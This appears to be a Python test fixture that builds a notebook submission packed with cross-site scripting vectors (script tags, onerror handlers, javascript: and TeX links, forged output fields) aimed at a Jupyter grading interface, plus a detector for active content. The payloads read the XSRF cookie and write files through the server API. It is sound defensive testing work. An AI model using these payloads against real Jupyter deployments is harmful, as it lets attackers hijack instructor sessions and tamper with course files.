"""A submission that carries script into whoever opens it (issue 27, item 3), made from the toy assignment.

It is the toy's solution (fast: the training answer left as its stub) plus every way a notebook can put HTML,
SVG, JavaScript or TeX in front of the Formgrader or the feedback: raw HTML in the written answer and in a
markdown cell of the student's own, ``javascript:`` links, a TeX ``\\href``, and code whose outputs are HTML,
SVG, JavaScript, markdown and LaTeX. Each payload, if it runs, marks the page (``data-xss-<n>`` on ``<html>``),
calls the beacon (a server of the test's own on the loopback) and tries what the issue's attack did: write a
file into the course through the Jupyter server's ``/api/contents`` with the instructor's session. Other
vectors only load from the beacon (an image, a style, a frame, a refresh) without any script.

``crafted_outputs`` is the same kind of thing written straight into a notebook's JSON, for the fields a kernel
could forge (a stream's name, an execution count, an image's size) and the cell kinds code cannot make.
"""

from __future__ import annotations

import base64
import re
import warnings
from html.parser import HTMLParser

import nbformat
from harness import cells
from harness.mutants import solved_fast_submission
from nbformat import NotebookNode

WRITTEN = "written_double"  # the toy's written answer, graded by hand
CODE = "square"  # the answer cell whose code also displays the outputs
PNG = (  # a 1x1 transparent PNG
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)


def payload(number: int, beacon: str) -> str:
    """JavaScript for vector ``number``, as an expression with no blank and no double quote (it fits an
    unquoted attribute, a link and a TeX argument alike)."""
    script = (
        f"document.documentElement.setAttribute('data-xss-{number}','ran');"
        f"new Image().src='{beacon}/ran/{number}';"
        "fetch('/lab',{credentials:'same-origin'}).then(function(){"  # a Jupyter page sets the _xsrf cookie
        "var m=document.cookie.match(/_xsrf=([^;]+)/);"
        f"return fetch('/api/contents/xss-{number}.txt',{{method:'PUT',credentials:'same-origin',"
        "headers:{'Content-Type':'application/json','X-XSRFToken':m?decodeURIComponent(m[1]):''},"
        "body:JSON.stringify({type:'file',format:'text',content:'written by a student script'})})})"
    )
    return f"eval(atob('{base64.b64encode(script.encode()).decode()}'))"


def markdown_vectors(beacon: str) -> dict[int, str]:
    """Raw HTML and links a markdown cell can carry (numbers 1-19)."""
    p = lambda n: payload(n, beacon)  # noqa: E731
    return {
        1: f"<img src=x onerror={p(1)}>",
        2: f"<script>{p(2)}</script>",
        3: f"[a link](javascript:{p(3)})",
        4: f'<a href="jav&#x61;script:{p(4)}">an encoded link</a>',
        5: f'<svg onload="{p(5)}"><script>{p(5)}</script></svg>',
        6: f"$\\href{{javascript:{p(6)}}}{{x}}$",
        7: f'<iframe src="{beacon}/frame/7"></iframe>',
        8: f'<img src="{beacon}/image/8">',
        9: f'<div style="background:url({beacon}/style/9)">styled</div>',
        10: f'<meta http-equiv="refresh" content="20;url={beacon}/refresh/10">',  # late: the page stays to be checked
        11: f'<details open ontoggle="{p(11)}"><summary>s</summary></details>',
        12: f'<object data="{beacon}/object/12"></object><embed src="{beacon}/embed/12">',
        13: f'<form action="{beacon}/form/13"><button>send</button></form><base href="{beacon}/base/13/">',
        14: f"<math><mtext><table><mglyph><style><img src=x onerror={p(14)}>",  # a parser differential
        15: f"<!--><img src=x onerror={p(15)}>-->",
    }


def _displays(beacon: str) -> list[tuple[str | None, object, dict]]:
    """What the output vectors display (numbers 20-29): ``(IPython.display class or None for a raw bundle,
    content, metadata)``."""
    p = lambda n: payload(n, beacon)  # noqa: E731
    return [
        ("HTML", f"<script>{p(20)}</script><b>html output</b>", {}),
        ("HTML", f"<img src=x onerror={p(21)}>", {}),
        ("SVG", f'<svg xmlns="http://www.w3.org/2000/svg" onload="{p(22)}"><script>{p(22)}</script></svg>', {}),
        ("Javascript", p(23), {}),
        ("Markdown", f"<img src=x onerror={p(24)}> and [a link](javascript:{p(24)})", {}),
        ("HTML", f'<a href="javascript:{p(25)}">a link</a>', {}),
        ("Latex", f"$\\href{{javascript:{p(26)}}}{{x}}$", {}),
        (None, {"image/png": PNG, "text/plain": "a dot"}, {"image/png": {"width": f"1 onerror={p(27)}"}}),
        ("HTML", f'<img src="{beacon}/image/28"><style>body{{background:url({beacon}/style/28)}}</style>', {}),
        ("HTML", f'<iframe srcdoc="<script>{p(29)}</script>"></iframe>', {"text/html": {"isolated": True}}),
    ]


def output_code(beacon: str) -> str:
    """Code that displays the output vectors."""
    lines = ["from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display"]
    for kind, content, metadata in _displays(beacon):
        shown = f"{kind}({content!r})" if kind else repr(content)
        extra = (f", metadata={metadata!r}" if metadata else "") + ("" if kind else ", raw=True")
        lines.append(f"display({shown}{extra})")
    return "\n".join(lines) + "\n"


def displayed_outputs(beacon: str) -> list[NotebookNode]:
    """The outputs ``output_code`` leaves in a notebook, made by IPython's own display formatter as a kernel
    makes them (no kernel needed)."""
    import IPython.display
    from IPython.core.formatters import DisplayFormatter

    formatter, outputs = DisplayFormatter(), []
    for kind, content, metadata in _displays(beacon):
        if kind:
            with warnings.catch_warnings():
                warnings.simplefilter("ignore")  # IPython suggests IFrame for the iframe vector
                shown = getattr(IPython.display, kind)(content)
            data, made = formatter.format(shown)
        else:
            data, made = dict(content), {}
        outputs.append(nbformat.v4.new_output("display_data", data, metadata={**made, **metadata}))
    return outputs


VECTOR_NUMBERS = [*range(1, 16), *range(20, 30)]


def xss_submission(source: NotebookNode, release: NotebookNode, beacon: str) -> NotebookNode:
    """The toy's fast solution with every vector: markdown ones in the written answer and in a markdown cell of
    the student's own, output ones in the code of the ``square`` answer, widget state in the metadata."""
    submission = solved_fast_submission(source, release)
    by_id = cells.cells_by_id(submission)
    vectors = "\n\n".join(markdown_vectors(beacon).values())
    by_id[WRITTEN].source = f"Doubling is linear, squaring is not.\n\n{vectors}\n"
    by_id[CODE].source += "\n\n" + output_code(beacon)
    by_id[CODE].outputs = displayed_outputs(beacon)  # as the kernel leaves them; the grading here runs no code
    own = nbformat.v4.new_markdown_cell(f"My notes.\n\n{vectors}\n")
    submission.cells.insert(submission.cells.index(by_id[WRITTEN]), own)
    state = {"version_major": 2, "version_minor": 0, "state": {}}
    submission.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    return submission


def crafted_outputs(beacon: str) -> NotebookNode:
    """A notebook whose JSON forges what a kernel or an editor could: odd stream names and execution counts,
    image sizes and file names, an HTML raw cell, a widget view and markdown attachments."""
    p = lambda n: payload(n, beacon)  # noqa: E731
    hostile = f'"><img src=x onerror={p(40)}>'
    code = nbformat.v4.new_code_cell("print(1)", execution_count=1)
    code.outputs = [
        nbformat.v4.new_output("stream", name=hostile, text="text"),
        nbformat.v4.new_output("execute_result", {"text/plain": "1"}, execution_count=1),
        nbformat.v4.new_output(
            "display_data",
            {"image/png": PNG, "application/vnd.jupyter.widget-view+json": {"model_id": "x"}},
            metadata={"width": f"1 onerror={p(41)}", "filenames": {"image/png": f"{beacon}/file/41"}},
        ),
        nbformat.v4.new_output("display_data", {"image/png": f'x" onerror="{p(42)}'}),
    ]
    code.execution_count = hostile
    code.outputs[1].execution_count = hostile
    raw = nbformat.v4.new_raw_cell(f"<img src=x onerror={p(43)}>", metadata={"raw_mimetype": "text/html"})
    attached = nbformat.v4.new_markdown_cell("![a picture](attachment:a.svg)")
    attached.attachments = {"a.svg": {"image/svg+xml": base64.b64encode(f"<svg onload='{p(44)}'/>".encode()).decode()}}
    # from_dict: nbformat's new_notebook would refuse the forged execution counts (a kernel's JSON need not)
    return nbformat.from_dict({"cells": [code, raw, attached], "metadata": {}, "nbformat": 4, "nbformat_minor": 5})


class _Active(HTMLParser):
    """Finds what could act in a rendered page: the payloads' handlers, scripts and links, frames, forms,
    plugins, refreshes, remote loads and TeX links outside code."""

    def __init__(self, beacon: str) -> None:
        super().__init__(convert_charrefs=True)
        self.beacon, self.found, self.stack = beacon, [], []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.stack.append(tag)
        if tag in ("iframe", "object", "embed", "base", "form", "frame") or (
            tag == "meta" and any(n == "http-equiv" and (v or "").lower() == "refresh" for n, v in attrs)
        ):
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            squeezed = re.sub(r"[\x00-\x20]", "", value or "").lower()
            if name.startswith("on") and "atob" in squeezed:
                self.found.append(f"<{tag} {name}>")
            elif "javascript:" in squeezed or self.beacon in (value or ""):
                self.found.append(f"<{tag} {name}={squeezed[:40]}>")

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            del self.stack[len(self.stack) - 1 - self.stack[::-1].index(tag) :]

    def handle_data(self, data: str) -> None:
        where = set(self.stack)
        if "script" in where and "atob" in data:
            self.found.append("<script> with a payload")
        elif "style" in where and self.beacon in data:
            self.found.append("<style> that loads from the beacon")
        elif not where & {"pre", "code", "script", "style", "textarea"} and "\\href" in data:
            self.found.append("TeX \\href outside code")


def active_content(page: str, beacon: str) -> list[str]:
    """What in the rendered HTML ``page`` could run a payload or call ``beacon``; empty when nothing can."""
    finder = _Active(beacon)
    finder.feed(page)
    finder.close()
    return finder.found
